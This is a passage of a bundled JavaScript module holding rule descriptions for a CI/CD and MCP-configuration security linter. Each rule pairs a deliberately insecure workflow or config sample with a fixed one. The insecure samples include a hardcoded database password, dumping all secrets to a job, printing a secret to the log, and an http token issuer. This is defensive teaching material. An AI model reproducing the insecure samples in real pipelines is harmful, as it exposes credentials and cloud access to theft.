export const id = 2824;

export const ids = [ 2824 ];

export const modules = {
 22824: (function(__unused_webpack___webpack_module__, __webpack_exports__, __webpack_require__) {
  __webpack_require__.r(__webpack_exports__);
  __webpack_require__.d(__webpack_exports__, {
   catalog: () => catalog,
   rules: () => rules
  });
  // CONCATENATED MODULE: ./build/shared/lint/rules/artifacts/unscanned-image.about.js
  const before = "on: push\npermissions: {}\njobs:\n  image:\n    runs-on: ubuntu-latest\n    permissions:\n      contents: read\n    steps:\n";
  const about = {
   summary: "A container image is pushed without a scan or a signature",
   why: "An image carries a system and libraries that nobody of the team wrote, and what is pushed is what clusters run. A scan before the push keeps known vulnerabilities out; a signature lets the cluster refuse images that did not come from this pipeline. The registry or another system may scan as well: this rule sees only the pipeline, so it is a note.",
   fix: "Scan the image after it is built and before it is pushed (Trivy, Grype, Microsoft Security DevOps), and sign the digest that was pushed (`cosign sign`, `notation sign`) or attest its build.",
   securitySeverity: 3,
   references: [ "https://cheatsheetseries.owasp.org/cheatsheets/Docker_Security_Cheat_Sheet.html", "https://docs.sigstore.dev/cosign/signing/signing_with_containers/" ],
   bad: {
    file: ".github/workflows/image.yml",
    text: `${before}      - run: |\n          docker build --tag registry.example.com/agent:1 .\n          docker push registry.example.com/agent:1\n`
   },
   good: {
    file: ".github/workflows/image.yml",
    text: `${before}      - run: |\n          docker build --tag registry.example.com/agent:1 .\n          trivy image --exit-code 1 --severity CRITICAL registry.example.com/agent:1\n          docker push registry.example.com/agent:1\n`
   }
  };
  // CONCATENATED MODULE: ./build/shared/lint/rules/artifacts/unverified-model.about.js
  const unverified_model_about_before = "on: push\npermissions: {}\njobs:\n  summarise:\n    runs-on: ubuntu-latest\n    permissions:\n      contents: read\n    steps:\n";
  const unverified_model_about_about = {
   summary: "A model is downloaded and used without a digest or a signature",
   why: "A name or an address says where a model is, not what it is: anyone who can write to the store, the hub repository or the registry chooses what the job runs, and a model can hold code that runs when it is loaded. A digest that was reviewed, a commit of the hub, or a verified signature says which content is meant.",
   fix: "After the download and before the first use, run `verify` with a manifest that was reviewed (`command: verify` of this Action or task, or `mcp-gatehouse verify`), or another check of a digest or signature. For Hugging Face, name a commit as the revision: `hf download acme/llama --revision 3f1a…`. Where the script downloads `SHA256SUMS` beside the model, the fix adds the check; such a manifest comes from the same place as the model, so one in the repository is better.",
   securitySeverity: 6.5,
   references: [ "https://cwe.mitre.org/data/definitions/494.html", "https://github.com/sigstore/model-transparency", "https://huggingface.co/docs/huggingface_hub/guides/download" ],
   bad: {
    file: ".github/workflows/summarise.yml",
    text: `${unverified_model_about_before}      - run: |\n          curl -sfL -o model.gguf https://models.example.com/summariser.gguf\n          llama-cli --model model.gguf --file prompt.txt\n`
   },
   good: {
    file: ".github/workflows/summarise.yml",
    text: `${unverified_model_about_before}      - run: |\n          curl -sfL -o model.gguf https://models.example.com/summariser.gguf\n          sha256sum --check models/summariser.sha256\n          llama-cli --model model.gguf --file prompt.txt\n`
   }
  };
  // CONCATENATED MODULE: ./build/shared/lint/rules/artifacts/about.js
  const abouts = {
   "unscanned-image": about,
   "unverified-model": unverified_model_about_about
  };
  var artifacts = __webpack_require__(4549);
  // CONCATENATED MODULE: ./build/shared/lint/rules/credentials/artifact-leaks-credentials.about.js
  const artifact_leaks_credentials_about_about = {
   summary: "Artifact or cache that holds credentials",
   why: "Anyone who can read a repository can download the artifacts of its runs, and a cache can be read by the workflows of every pull request. Profiles of clouds, registries and package managers, `.env` files, MCP configurations and the `.git` folder of a checkout hold the credentials that the job worked with. A token of a run was taken from an artifact in seconds, while the run was still going.",
   fix: "Name the files that are meant: `path: dist/`. Leave dot files out (`include-hidden-files` is off since `upload-artifact` 4.4), and check out with `persist-credentials: false`.",
   securitySeverity: 8,
   references: [ "https://unit42.paloaltonetworks.com/github-repo-artifacts-leak-tokens/", "https://github.com/actions/upload-artifact#uploading-hidden-files" ],
   bad: {
    file: ".github/workflows/build.yml",
    text: `on: push\npermissions: {}\njobs:\n  build:\n    runs-on: ubuntu-latest\n    steps:\n      - uses: actions/upload-artifact@ea165f8d65b6e75b540449e92b4886f43607fa02 # v4.6.2\n        with:\n          path: |\n            dist\n            .env\n          include-hidden-files: true\n`
   },
   good: {
    file: ".github/workflows/build.yml",
    text: `on: push\npermissions: {}\njobs:\n  build:\n    runs-on: ubuntu-latest\n    steps:\n      - uses: actions/upload-artifact@ea165f8d65b6e75b540449e92b4886f43607fa02 # v4.6.2\n        with:\n          path: dist\n`
   }
  };
  // CONCATENATED MODULE: ./build/shared/lint/rules/credentials/long-lived-cloud-credential.about.js
  const long_lived_cloud_credential_about_about = {
   summary: "Stored cloud credential where federation needs none",
   why: "A client secret, an access key or a service account key works for anyone who has it, from anywhere, until someone rotates it. It leaks from logs, artifacts, forks of the runner and the machines of people who left. GitHub and Azure Pipelines give each job a signed identity that Azure, AWS, Google Cloud and Vault exchange for a token that ends with the job: then nothing is stored that could leak.",
   fix: "Let the job log in with its own identity (`id-token: write`): `azure/login` with `client-id`, `tenant-id` and `subscription-id`; `aws-actions/configure-aws-credentials` with `role-to-assume`; `google-github-actions/auth` with `workload_identity_provider`; `hashicorp/vault-action` with `method: jwt`. In Azure Pipelines use a service connection with workload identity federation. Then delete the stored credential.",
   securitySeverity: 6,
   references: [ "https://docs.github.com/en/actions/concepts/security/openid-connect", "https://learn.microsoft.com/en-us/azure/developer/github/connect-from-azure-openid-connect", "https://learn.microsoft.com/en-us/azure/devops/pipelines/library/connect-to-azure" ],
   bad: {
    file: ".github/workflows/deploy.yml",
    text: `on: push\npermissions: {}\njobs:\n  deploy:\n    runs-on: ubuntu-latest\n    steps:\n      - uses: azure/login@a457da9ea143d694b1b9c7c869ebb04ebe844ef5 # v2.3.0\n        with:\n          creds: \${{ secrets.AZURE_CREDENTIALS }}\n`
   },
   good: {
    file: ".github/workflows/deploy.yml",
    text: `on: push\npermissions: {}\njobs:\n  deploy:\n    runs-on: ubuntu-latest\n    permissions:\n      id-token: write\n    steps:\n      - uses: azure/login@a457da9ea143d694b1b9c7c869ebb04ebe844ef5 # v2.3.0\n        with:\n          client-id: \${{ vars.AZURE_CLIENT_ID }}\n          tenant-id: \${{ vars.AZURE_TENANT_ID }}\n          subscription-id: \${{ vars.AZURE_SUBSCRIPTION_ID }}\n`
   }
  };
  // CONCATENATED MODULE: ./build/shared/lint/rules/credentials/persisted-checkout-credentials.about.js
  const persisted_checkout_credentials_about_about = {
   summary: "Checkout leaves its token on disk",
   why: "Up to version 5, `actions/checkout` writes its token into `.git/config`, where every later step, action and dependency of the job can read it, and from where it gets into artifacts and images made of the work tree. Azure Pipelines does the same with `persistCredentials: true`. It is a warning where the job uploads the work tree.",
   fix: "Set `persist-credentials: false`, or remove `persistCredentials`. A job that pushes needs the token: give it to the one step that pushes.",
   securitySeverity: 3.5,
   references: [ "https://github.com/actions/checkout#usage", "https://learn.microsoft.com/en-us/azure/devops/pipelines/yaml-schema/steps-checkout" ],
   bad: {
    file: ".github/workflows/test.yml",
    text: `on: push\npermissions:\n  contents: read\njobs:\n  test:\n    runs-on: ubuntu-latest\n    steps:\n      - uses: actions/checkout@08c6903cd8c0fde910a37f88322edcfb5dd907a8 # v5.0.0\n      - run: npm test\n`
   },
   good: {
    file: ".github/workflows/test.yml",
    text: `on: push\npermissions:\n  contents: read\njobs:\n  test:\n    runs-on: ubuntu-latest\n    steps:\n      - uses: actions/checkout@08c6903cd8c0fde910a37f88322edcfb5dd907a8 # v5.0.0\n        with:\n          persist-credentials: false\n      - run: npm test\n`
   }
  };
  // CONCATENATED MODULE: ./build/shared/lint/rules/credentials/secret-in-script.about.js
  const secret_in_script_about_about = {
   summary: "Secret expanded into the text of a script",
   why: "`${{ secrets.X }}` and `$(X)` in a script are replaced before the shell starts: the secret becomes part of the program. A `$`, a quote or a line break in it changes what the script does, the script lies on disk with the secret in it, and the value stands in the arguments of whatever it calls, where the process list and command tracing show it.",
   fix: 'Map the secret into the `env` of the step and use the variable: `"$X"` in bash, `$env:X` in PowerShell.',
   securitySeverity: 5,
   references: [ "https://docs.github.com/en/actions/reference/security/secure-use#use-an-intermediate-environment-variable", "https://learn.microsoft.com/en-us/azure/devops/pipelines/process/set-secret-variables" ],
   bad: {
    file: ".github/workflows/call.yml",
    text: `on: push\npermissions: {}\njobs:\n  call:\n    runs-on: ubuntu-latest\n    steps:\n      - run: ./upload \${{ secrets.UPLOAD_KEY }}\n`
   },
   good: {
    file: ".github/workflows/call.yml",
    text: `on: push\npermissions: {}\njobs:\n  call:\n    runs-on: ubuntu-latest\n    steps:\n      - env:\n          UPLOAD_KEY: \${{ secrets.UPLOAD_KEY }}\n        run: ./upload\n`
   }
  };
  // CONCATENATED MODULE: ./build/shared/lint/rules/credentials/secret-on-command-line.about.js
  const secret_on_command_line_about_about = {
   summary: "Secret passed as an argument of a program",
   why: "The arguments of a program are no secret: every process of the machine can read them in the process list, audit and crash logs record them, and tracing (`set -x`, debug logs) prints them. On a self-hosted runner that means every other job. What a program is given through its environment or its standard input only it can read.",
   fix: "Use the way that the program has for secrets: `docker login --password-stdin`, an environment variable (`ANTHROPIC_API_KEY`, `-e NAME` without a value), a file or `curl --config -`. `az login` with a password is best replaced by a login with the identity of the job.",
   securitySeverity: 5,
   references: [ "https://docs.github.com/en/actions/reference/security/secure-use#use-secrets-for-sensitive-information", "https://learn.microsoft.com/en-us/azure/devops/pipelines/security/secrets" ],
   bad: {
    file: ".github/workflows/push.yml",
    text: `on: push\npermissions: {}\njobs:\n  push:\n    runs-on: ubuntu-latest\n    steps:\n      - env:\n          REGISTRY_PASSWORD: \${{ secrets.REGISTRY_PASSWORD }}\n        run: docker login registry.acme.com -u ci -p "$REGISTRY_PASSWORD"\n`
   },
   good: {
    file: ".github/workflows/push.yml",
    text: `on: push\npermissions: {}\njobs:\n  push:\n    runs-on: ubuntu-latest\n    steps:\n      - env:\n          REGISTRY_PASSWORD: \${{ secrets.REGISTRY_PASSWORD }}\n        run: printf %s "$REGISTRY_PASSWORD" | docker login registry.acme.com -u ci --password-stdin\n`
   }
  };
  // CONCATENATED MODULE: ./build/shared/lint/rules/credentials/secret-printed.about.js
  const secret_printed_about_about = {
   summary: "Secret written to the log",
   why: "Logs are kept for months, are readable by everyone who can read the repository, and are copied to other systems. Masking replaces exactly the text that was stored: one more quote, a line break, an encoding or a part of it, and the secret stands there in clear. A token that a command fetched is not masked at all.",
   fix: "Do not print it. To see whether a secret is there, test that it is not empty; to compare two, print a keyed digest. To hand a secret to a program, pipe it into its standard input.",
   securitySeverity: 8,
   references: [ "https://docs.github.com/en/actions/reference/security/secure-use#use-secrets-for-sensitive-information", "https://learn.microsoft.com/en-us/azure/devops/pipelines/security/secrets" ],
   bad: {
    file: ".github/workflows/test.yml",
    text: `on: push\npermissions: {}\njobs:\n  test:\n    runs-on: ubuntu-latest\n    steps:\n      - env:\n          API_KEY: \${{ secrets.API_KEY }}\n        run: echo "using $API_KEY"\n`
   },
   good: {
    file: ".github/workflows/test.yml",
    text: `on: push\npermissions: {}\njobs:\n  test:\n    runs-on: ubuntu-latest\n    steps:\n      - env:\n          API_KEY: \${{ secrets.API_KEY }}\n        run: |\n          if [ -n "$API_KEY" ]; then echo "the key is set"; fi\n`
   }
  };
  // CONCATENATED MODULE: ./build/shared/lint/rules/credentials/secret-too-wide.about.js
  const secret_too_wide_about_about = {
   summary: "Secret in the environment of the whole workflow or job",
   why: "Environment of a workflow or job is given to every step: to each action, each script, and each package that these run. One that has been tampered with reads it without asking. In Azure Pipelines a secret that is copied into `variables` stops being a secret variable and is put into the environment of every task.",
   fix: "Move the entry to the `env` of the step that reads it.",
   securitySeverity: 5,
   references: [ "https://docs.github.com/en/actions/reference/security/secure-use#use-secrets-for-sensitive-information", "https://learn.microsoft.com/en-us/azure/devops/pipelines/process/set-secret-variables" ],
   bad: {
    file: ".github/workflows/release.yml",
    text: `on: push\npermissions: {}\nenv:\n  PUBLISH_TOKEN: \${{ secrets.PUBLISH_TOKEN }}\njobs:\n  test:\n    runs-on: ubuntu-latest\n    steps:\n      - run: npm test\n  publish:\n    runs-on: ubuntu-latest\n    steps:\n      - run: ./publish "$PUBLISH_TOKEN"\n`
   },
   good: {
    file: ".github/workflows/release.yml",
    text: `on: push\npermissions: {}\njobs:\n  test:\n    runs-on: ubuntu-latest\n    steps:\n      - run: npm test\n  publish:\n    runs-on: ubuntu-latest\n    steps:\n      - run: ./publish\n        env:\n          PUBLISH_TOKEN: \${{ secrets.PUBLISH_TOKEN }}\n`
   }
  };
  // CONCATENATED MODULE: ./build/shared/lint/rules/credentials/secrets-dump.about.js
  const secrets_dump_about_about = {
   summary: "All secrets are handed to a job at once",
   why: "A runner gets only the secrets that the workflow names. `toJSON(secrets)` and `secrets[…]` with a computed name make GitHub send every secret of the repository and the organisation, and a Key Vault task with `*` downloads the whole vault: one compromised step then has them all, and no review shows which are used.",
   fix: "Name each secret: `${{ secrets.NAME }}`, in the `env` of the step that needs it. To choose by environment, put the secret under one name into several environments. For Key Vault list the names in `SecretsFilter`.",
   securitySeverity: 8,
   references: [ "https://docs.github.com/en/actions/reference/security/secure-use#use-secrets-for-sensitive-information", "https://learn.microsoft.com/en-us/azure/devops/pipelines/tasks/reference/azure-key-vault-v2" ],
   bad: {
    file: ".github/workflows/deploy.yml",
    text: `on: push\npermissions: {}\njobs:\n  deploy:\n    runs-on: ubuntu-latest\n    steps:\n      - run: ./deploy\n        env:\n          ALL: \${{ toJSON(secrets) }}\n`
   },
   good: {
    file: ".github/workflows/deploy.yml",
    text: `on: push\npermissions: {}\njobs:\n  deploy:\n    runs-on: ubuntu-latest\n    environment: production\n    steps:\n      - run: ./deploy\n        env:\n          DEPLOY_KEY: \${{ secrets.DEPLOY_KEY }}\n`
   }
  };
  // CONCATENATED MODULE: ./build/shared/lint/rules/credentials/secrets-inherit.about.js
  const secrets_inherit_about_about = {
   summary: "secrets: inherit hands every secret to the called workflow",
   why: "`secrets: inherit` gives the called workflow every secret of the repository and the organisation that the caller can see, now and in future, whether it needs it or not. Anyone who can change that workflow, or what it runs, has them all, and the caller does not show which ones are in use.",
   fix: "Pass the secrets that the workflow declares, by name: `secrets:` with one line for each. A called workflow of the same repository is only noted: it is reviewed with its caller, and secrets of environments can be had no other way.",
   securitySeverity: 5.5,
   references: [ "https://docs.github.com/en/actions/how-tos/reuse-automations/reuse-workflows#passing-inputs-and-secrets-to-a-reusable-workflow" ],
   bad: {
    file: ".github/workflows/release.yml",
    text: `on: push\npermissions: {}\njobs:\n  release:\n    uses: acme/workflows/.github/workflows/release.yml@7c2f1a9e0b3d4c5f6a7b8c9d0e1f2a3b4c5d6e7f\n    secrets: inherit\n`
   },
   good: {
    file: ".github/workflows/release.yml",
    text: `on: push\npermissions: {}\njobs:\n  release:\n    uses: acme/workflows/.github/workflows/release.yml@7c2f1a9e0b3d4c5f6a7b8c9d0e1f2a3b4c5d6e7f\n    secrets:\n      signing-key: \${{ secrets.SIGNING_KEY }}\n`
   }
  };
  // CONCATENATED MODULE: ./build/shared/lint/rules/credentials/static-gateway-token.about.js
  const static_gateway_token_about_about = {
   summary: "Stored secret as the token of an MCP server or gateway",
   why: "A stored token of the MCP gateway works for anyone who has it, long after the run, and the audit log cannot tell the pipeline from a laptop: this is how a runner of someone who had left went on reading documents. The gateway trusts Microsoft Entra ID, and Entra ID trusts the identity of the job, so a token for one run can be had without storing anything.",
   fix: "Let the `token` command get the token: on GitHub with `id-token: write`, in Azure Pipelines with a workload identity service connection; or use the `call` command, which does both. Then delete the stored token. Servers that know no federation keep their secret.",
   securitySeverity: 6,
   references: [ "https://modelcontextprotocol.io/specification/2025-06-18/basic/authorization", "https://learn.microsoft.com/en-us/entra/workload-id/workload-identity-federation" ],
   bad: {
    file: ".github/workflows/call.yml",
    text: `on: push\npermissions: {}\njobs:\n  call:\n    runs-on: ubuntu-latest\n    steps:\n      - run: ./call-tool create_pull_request\n        env:\n          MCP_GATEWAY_TOKEN: \${{ secrets.MCP_GATEWAY_TOKEN }}\n`
   },
   good: {
    file: ".github/workflows/call.yml",
    text: `on: push\npermissions: {}\njobs:\n  call:\n    runs-on: ubuntu-latest\n    permissions:\n      id-token: write\n    steps:\n      - id: gateway\n        uses: acme/mcp-gatehouse@7c2f1a9e0b3d4c5f6a7b8c9d0e1f2a3b4c5d6e7f # v1.0.0\n        with:\n          command: token\n          tenant-id: \${{ vars.AZURE_TENANT_ID }}\n          client-id: \${{ vars.AZURE_CLIENT_ID }}\n          resource: api://mcp-gateway\n      - run: ./call-tool create_pull_request\n        env:\n          MCP_GATEWAY_TOKEN: \${{ steps.gateway.outputs.token }}\n`
   }
  };
  // CONCATENATED MODULE: ./build/shared/lint/rules/credentials/stored-credential.about.js
  const stored_credential_about_about = {
   summary: "A credential is stored in the file",
   why: "Anyone who can read the file, now or in any clone of its history, can use the credential: no log-in, no second factor, and no trace that tells the thief from the owner. It also goes on working when its owner has left. A pipeline needs none of this: it has an identity of its own, for which it can get a token that lives minutes.",
   fix: "Revoke the credential first: it is in the history even when the line is gone. Then let the job get a short-lived token by OIDC (`mcp-gatehouse token`) or read the secret from a vault when it runs (`mcp-gatehouse secrets`). Where that is not possible, put it into the secret store of the CI system or the machine and refer to it in the syntax of the place: `${{ secrets.NAME }}` in a workflow, a secret variable in a pipeline, an environment variable or input in the configuration of an MCP client. A finding that says *guess* rests on the name and the look of the value: if it is no secret, say so with `# mcp-gatehouse: ignore[stored-credential] reason` or in the configuration.",
   securitySeverity: 9.1,
   references: [ "https://cwe.mitre.org/data/definitions/798.html", "https://owasp.org/Top10/A07_2021-Identification_and_Authentication_Failures/", "https://learn.microsoft.com/azure/devops/pipelines/security/secrets" ],
   bad: {
    file: ".mcp.json",
    text: '{\n  "mcpServers": {\n    "orders": {\n      "command": "uvx",\n      "args": ["orders-mcp==1.4.0"],\n      "env": {"DATABASE_URL": "postgresql://orders:Kd83-hQx1-pLz7@db.contoso.net:5432/orders"}\n    }\n  }\n}\n'
   },
   good: {
    file: ".mcp.json",
    text: '{\n  "mcpServers": {\n    "orders": {\n      "command": "uvx",\n      "args": ["orders-mcp==1.4.0"],\n      "env": {"DATABASE_URL": "${ORDERS_DATABASE_URL}"}\n    }\n  }\n}\n'
   }
  };
  // CONCATENATED MODULE: ./build/shared/lint/rules/credentials/structured-secret.about.js
  const structured_secret_about_about = {
   summary: "Part of a structured secret is used without a mask",
   why: "The runner masks a secret as a whole, as it was stored. What is taken out of it (a field of a JSON document, the decoded form of a base64 text) is another string, and is printed in clear wherever it comes up: in a log, a summary, an error message.",
   fix: 'Store each value as a secret of its own. Where that cannot be, mask the part before anything else sees it: `echo "::add-mask::$PART"`, or `##vso[task.setsecret]` in Azure Pipelines.',
   securitySeverity: 5.5,
   references: [ "https://docs.github.com/en/actions/reference/security/secure-use#use-secrets-for-sensitive-information" ],
   bad: {
    file: ".github/workflows/deploy.yml",
    text: `on: push\npermissions: {}\njobs:\n  deploy:\n    runs-on: ubuntu-latest\n    steps:\n      - env:\n          PASSWORD: \${{ fromJSON(secrets.DATABASE).password }}\n        run: ./migrate\n`
   },
   good: {
    file: ".github/workflows/deploy.yml",
    text: `on: push\npermissions: {}\njobs:\n  deploy:\n    runs-on: ubuntu-latest\n    steps:\n      - env:\n          PASSWORD: \${{ secrets.DATABASE_PASSWORD }}\n        run: ./migrate\n`
   }
  };
  // CONCATENATED MODULE: ./build/shared/lint/rules/credentials/token-in-job-env.about.js
  const token_in_job_env_about_about = {
   summary: "Token written to the environment of the whole job",
   why: "What stands in `GITHUB_ENV` is in the environment of every later step: of each action, each script and each package that they run, long after the one call that needed it. A mask hides it in logs and from nothing else. In Azure Pipelines a secret variable is kept out of the environment, but every later task of the job can read it.",
   fix: "Fetch the token in the step that uses it. Where two steps need it, use a masked step output and map it into the `env` of these two. In Azure Pipelines let `AzureKeyVault@2` or a task that federates fetch it right before it is needed.",
   securitySeverity: 5.5,
   references: [ "https://docs.github.com/en/actions/reference/workflows-and-actions/workflow-commands#setting-an-environment-variable", "https://learn.microsoft.com/en-us/azure/devops/pipelines/security/secrets" ],
   bad: {
    file: ".github/workflows/call.yml",
    text: `on: push\npermissions: {}\njobs:\n  call:\n    runs-on: ubuntu-latest\n    steps:\n      - run: |\n          MCP_TOKEN=$(az account get-access-token --query accessToken -o tsv)\n          echo "::add-mask::$MCP_TOKEN"\n          echo "MCP_TOKEN=$MCP_TOKEN" >> "$GITHUB_ENV"\n`
   },
   good: {
    file: ".github/workflows/call.yml",
    text: `on: push\npermissions: {}\njobs:\n  call:\n    runs-on: ubuntu-latest\n    steps:\n      - run: |\n          MCP_TOKEN=$(az account get-access-token --query accessToken -o tsv)\n          echo "::add-mask::$MCP_TOKEN"\n          export MCP_TOKEN\n          ./call-tool\n`
   }
  };
  // CONCATENATED MODULE: ./build/shared/lint/rules/credentials/unmasked-secret.about.js
  const unmasked_secret_about_about = {
   summary: "Token handed to later steps before it is masked",
   why: "The runner hides stored secrets in logs. A token that a command fetched, or a part of a secret that a script took out, it does not know: once that is an output, a variable or part of the environment, any later step prints it in clear, with an error message, a debug line or a list of the environment. In Azure Pipelines a variable set without `issecret=true` is also put into the environment of every later step.",
   fix: 'Mask first, hand on after: `echo "::add-mask::$TOKEN"` in the line after the token was fetched. In Azure Pipelines set the variable with `issecret=true`. Better still, use the token in the step that fetches it.',
   securitySeverity: 8,
   references: [ "https://docs.github.com/en/actions/reference/workflows-and-actions/workflow-commands#masking-a-value-in-a-log", "https://learn.microsoft.com/en-us/azure/devops/pipelines/scripts/logging-commands#setvariable-initialize-or-modify-the-value-of-a-variable" ],
   bad: {
    file: ".github/workflows/call.yml",
    text: `on: push\npermissions: {}\njobs:\n  call:\n    runs-on: ubuntu-latest\n    steps:\n      - id: login\n        run: |\n          TOKEN=$(az account get-access-token --query accessToken -o tsv)\n          echo "token=$TOKEN" >> "$GITHUB_OUTPUT"\n`
   },
   good: {
    file: ".github/workflows/call.yml",
    text: `on: push\npermissions: {}\njobs:\n  call:\n    runs-on: ubuntu-latest\n    steps:\n      - id: login\n        run: |\n          TOKEN=$(az account get-access-token --query accessToken -o tsv)\n          echo "::add-mask::$TOKEN"\n          echo "token=$TOKEN" >> "$GITHUB_OUTPUT"\n`
   }
  };
  // CONCATENATED MODULE: ./build/shared/lint/rules/credentials/about.js
  const about_abouts = {
   "artifact-leaks-credentials": artifact_leaks_credentials_about_about,
   "long-lived-cloud-credential": long_lived_cloud_credential_about_about,
   "persisted-checkout-credentials": persisted_checkout_credentials_about_about,
   "secret-in-script": secret_in_script_about_about,
   "secret-on-command-line": secret_on_command_line_about_about,
   "secret-printed": secret_printed_about_about,
   "secret-too-wide": secret_too_wide_about_about,
   "secrets-dump": secrets_dump_about_about,
   "secrets-inherit": secrets_inherit_about_about,
   "static-gateway-token": static_gateway_token_about_about,
   "stored-credential": stored_credential_about_about,
   "structured-secret": structured_secret_about_about,
   "token-in-job-env": token_in_job_env_about_about,
   "unmasked-secret": unmasked_secret_about_about
  };
  var credentials = __webpack_require__(31451);
  // CONCATENATED MODULE: ./build/shared/lint/rules/federation/broad-subject.about.js
  const broad_subject_about_about = {
   summary: "Federated subject takes in more branches or tags than it needs",
   why: "A subject that names the beginning of a branch or tag lets in every branch or tag that somebody gives such a name, and a tag can be moved to any commit. What runs there has not passed the review that an environment with reviewers demands.",
   fix: "Name one environment with reviewers: `repo:acme/app:environment:production`. Where a branch or tag is what you need, name it in full, and protect it with a rule set.",
   securitySeverity: 6,
   references: [ "https://docs.github.com/actions/how-tos/deploy/configure-and-manage-deployments/manage-environments", "https://learn.microsoft.com/entra/workload-id/workload-identities-flexible-federated-identity-credentials" ],
   bad: {
    file: "federate.sh",
    text: 'az ad app federated-credential create --id "$APP_ID" --parameters @- <<\'EOF\'\n{\n  "name": "ci",\n  "issuer": "https://token.actions.githubusercontent.com",\n  "audiences": ["api://AzureADTokenExchange"],\n  "claimsMatchingExpression": {\n    "value": "claims[\'sub\'] matches \'repo:acme@1234/app@56789:ref:refs/heads/release/*\'",\n    "languageVersion": 1\n  }\n}\nEOF\n'
   },
   good: {
    file: "federate.sh",
    text: 'az ad app federated-credential create --id "$APP_ID" --parameters @- <<\'EOF\'\n{\n  "name": "ci",\n  "issuer": "https://token.actions.githubusercontent.com",\n  "audiences": ["api://AzureADTokenExchange"],\n  "claimsMatchingExpression": {\n    "value": "claims[\'sub\'] eq \'repo:acme@1234/app@56789:environment:production\'",\n    "languageVersion": 1\n  }\n}\nEOF\n'
   }
  };
  // CONCATENATED MODULE: ./build/shared/lint/rules/federation/ineffective-wildcard.about.js
  const ineffective_wildcard_about_about = {
   summary: "Wildcard in a federated subject that is compared exactly and never matches",
   why: "The `subject` of an Entra federated credential, values of AWS `StringEquals` and `==` in Google Cloud compare letter by letter. A star is a star: creation succeeds, and no token ever matches. It shows what somebody wanted, and when it does not work, people widen something else until it does: the role, the audience, or the expression.",
   fix: "Delete the credential, or put the one subject into it that the job has: `repo:acme/app:environment:production`. The step `mcp-gatehouse token` with `explain` prints the subject of a job.",
   securitySeverity: 4,
   references: [ "https://learn.microsoft.com/entra/workload-id/workload-identity-federation-considerations", "https://docs.aws.amazon.com/IAM/latest/UserGuide/reference_policies_elements_condition_operators.html" ],
   bad: {
    file: "federate.sh",
    text: 'az identity federated-credential create --identity-name ci --resource-group rg --name any-branch \\\n  --issuer https://token.actions.githubusercontent.com \\\n  --subject "repo:acme/app:ref:refs/heads/*" --audiences api://AzureADTokenExchange\n'
   },
   good: {
    file: "federate.sh",
    text: 'az identity federated-credential create --identity-name ci --resource-group rg --name production \\\n  --issuer https://token.actions.githubusercontent.com \\\n  --subject "repo:acme@1234/app@56789:environment:production" --audiences api://AzureADTokenExchange\n'
   }
  };
  // CONCATENATED MODULE: ./build/shared/lint/rules/federation/legacy-subject.about.js
  const legacy_subject_about_about = {
   summary: "Federated subject is written in a form that the issuer is giving up",
   why: "Repositories that were created, renamed or transferred on GitHub since 15 July 2026 put the numbers of owner and repository into the subject: `repo:acme@123/app@456:…`. A subject with names alone no longer matches there, and elsewhere it matches anyone who takes the name once it is free. Subjects of Azure DevOps that begin with `sc://` end with their issuer on 1 July 2027.",
   fix: "Where the repository has the new form, add a credential with it (`gh api repos/OWNER/REPO/actions/oidc/customization/sub` shows the prefix) and delete the old one. For Azure DevOps convert the service connection to the issuer of Entra.",
   securitySeverity: 2,
   references: [ "https://docs.github.com/actions/reference/security/oidc", "https://learn.microsoft.com/entra/workload-id/workload-identities-github-immutable-subjects" ],
   bad: {
    file: "main.tf",
    text: 'resource "azurerm_federated_identity_credential" "deploy" {\n  name                      = "deploy"\n  user_assigned_identity_id = azurerm_user_assigned_identity.deploy.id\n  issuer                    = "https://token.actions.githubusercontent.com"\n  audience                  = ["api://AzureADTokenExchange"]\n  subject                   = "repo:acme/app:environment:production"\n}\n'
   },
   good: {
    file: "main.tf",
    text: 'resource "azurerm_federated_identity_credential" "deploy" {\n  name                      = "deploy"\n  user_assigned_identity_id = azurerm_user_assigned_identity.deploy.id\n  issuer                    = "https://token.actions.githubusercontent.com"\n  audience                  = ["api://AzureADTokenExchange"]\n  subject                   = "repo:acme@1234/app@56789:environment:production"\n}\n'
   }
  };
  // CONCATENATED MODULE: ./build/shared/lint/rules/federation/loose-issuer.about.js
  const loose_issuer_about_about = {
   summary: "Federated identity trusts an issuer that others can speak for",
   why: "The keys that sign tokens are fetched from the address of the issuer. Over `http` anyone on the way can put in keys of their own; a host that only looks like that of GitHub belongs to somebody else; the `common` endpoint of Entra signs for every tenant there is.",
   fix: "Use the exact `https` address of the one issuer: `https://token.actions.githubusercontent.com` for GitHub, with the name of the enterprise behind it where that is switched on; of Entra the address with the id of the tenant.",
   securitySeverity: 7,
   references: [ "https://openid.net/specs/openid-connect-discovery-1_0.html", "https://docs.github.com/actions/reference/security/oidc" ],
   bad: {
    file: "main.bicep",
    text: "resource fic 'Microsoft.ManagedIdentity/userAssignedIdentities/federatedIdentityCredentials@2023-01-31' = {\n  name: 'ci/github'\n  properties: {\n    issuer: 'http://token.actions.githubusercontent.com'\n    subject: 'repo:acme@1/app@2:environment:production'\n    audiences: ['api://AzureADTokenExchange']\n  }\n}\n"
   },
   good: {
    file: "main.bicep",
    text: "resource fic 'Microsoft.ManagedIdentity/userAssignedIdentities/federatedIdentityCredentials@2023-01-31' = {\n  name: 'ci/github'\n  properties: {\n    issuer: 'https://token.actions.githubusercontent.com'\n    subject: 'repo:acme@1/app@2:environment:production'\n    audiences: ['api://AzureADTokenExchange']\n  }\n}\n"
   }
  };
  // CONCATENATED MODULE: ./build/shared/lint/rules/federation/missing-audience.about.js
  const missing_audience_about_about = {
   summary: "Federated identity takes tokens that were made for somebody else",
   why: "The audience of a token says for whom it was made. A job that sends its token to another service hands that service whatever the token opens: without a test of `aud`, or with one that also holds when the claim is missing (`ForAllValues:`, `…IfExists`), that is this identity too.",
   fix: "Test the audience with a plain `StringEquals` on the `:aud` key of the provider, such as `sts.amazonaws.com`. In Google Cloud leave `allowed_audiences` empty: the default is the name of the provider itself. In Entra use `api://AzureADTokenExchange` and request the token for it alone.",
   securitySeverity: 6.8,
   references: [ "https://docs.aws.amazon.com/IAM/latest/UserGuide/reference_policies_condition-single-vs-multi-valued-context-keys.html", "https://cloud.google.com/iam/docs/workload-identity-federation-with-deployment-pipelines" ],
   bad: {
    file: "main.tf",
